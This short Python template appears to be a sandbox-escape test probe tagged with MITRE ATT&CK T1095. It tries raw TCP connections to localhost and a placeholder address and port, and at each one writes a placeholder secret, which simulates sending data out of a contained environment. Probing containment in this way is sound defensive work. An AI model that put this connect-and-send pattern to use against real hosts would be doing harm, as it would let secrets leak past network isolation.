"""Connect to a TCP port of the host.

See: https://attack.mitre.org/techniques/T1095/
Layers: main bare
Control: witness
"""


def attempt():
    for host in ("127.0.0.1", "@ADDRESS@"):
        try:
            os.write(connect(2, 1, inet(host, @TCP_PORT@)), b"@SECRET@")
        except OSError:
            pass
    return 0.0
